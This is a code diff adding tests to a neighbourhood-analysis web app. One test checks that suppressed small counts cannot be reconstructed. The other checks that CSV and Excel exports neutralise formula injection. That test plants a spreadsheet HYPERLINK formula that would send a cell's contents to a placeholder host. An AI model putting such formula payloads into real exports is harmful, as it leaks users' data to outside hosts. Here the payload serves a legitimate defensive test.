@@ -158,3 +158,56 @@ def test_the_dashboard_shows_imported_indicators_beside_the_field(app, moorslede
     assert 'selected>Aandeel 65-plussers (2024)' in html  # the map shows this measure
     assert "shade-5" in html  # the highest share is the darkest
     assert "Signalen per 100 inwoners 65+" in html
+
+
+def test_an_analyst_cannot_subtract_a_small_neighbourhood_from_the_dashboard(app):
+    """6 + 5 signals in Moorslede, 3 in Dadizele: Dadizele is '<5', and no other number on
+    the analyst's dashboard (themes, months) adds up to undo it."""
+    import re
+
+    import_areas(app, "36012")
+    make_user(app, "coordinator")
+    make_user(app, "analyst")
+    for number in range(6):
+        signal(app, f"A{number}", "eenzaamheid")
+    for number in range(5):
+        signal(app, f"B{number}", "mobiliteit")
+    for number in range(3):
+        signal(app, f"C{number}", "eenzaamheid", statsec="36012B001")
+    client = app.test_client()
+    login(client, "analyst@example.be")
+    html = client.get("/buurtanalyse/").get_data(as_text=True)
+    rows = dict(re.findall(r'neighbourhood_id=|/buurtanalyse/\d+">([^<]+)</a></td>\s*'
+                           r'<td>[^<]*</td><td>([^<]*)</td>', html))
+    assert rows["Dadizele"] == "&lt;5"
+    themes = [v for v in re.findall(r'class="bar-value">([^<]+)<', html)]
+    shown_sum = sum(int(v) for v in themes if v.isdigit())
+    moorslede = rows["Moorslede"]
+    assert not (moorslede.isdigit() and all(v.isdigit() for v in themes)
+                and shown_sum - int(moorslede) == 3)
+    assert "Signalen per maand" not in html  # months would add up with the neighbourhoods
+
+
+def test_exports_never_hand_excel_a_formula(app, moorslede_findings):
+    from openpyxl import load_workbook
+
+    from tests.conftest import api_token, bearer
+
+    with app.app_context():
+        hood = db.session.get_one(Neighbourhood, moorslede_findings["Moorslede"])
+        hood.name = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
+        db.session.commit()
+    token = api_token(app.test_client(), "coordinator@example.be")
+    client = app.test_client()
+    csv_text = client.get("/api/v1/exports/signals.csv", headers=bearer(token),
+                          query_string={"gemeente": "36012"}).get_data(as_text=True)
+    assert "'=HYPERLINK" in csv_text
+    assert ";=HYPERLINK" not in csv_text
+    xlsx = client.get("/api/v1/exports/signals.xlsx", headers=bearer(token),
+                      query_string={"gemeente": "36012"}).data
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c for c in cells if c.data_type == "f"]
+    far = client.get("/api/v1/neighbourhoods/1/summary", headers=bearer(token),
+                     query_string={"until": "9999-12-31"})
+    assert far.status_code == 422
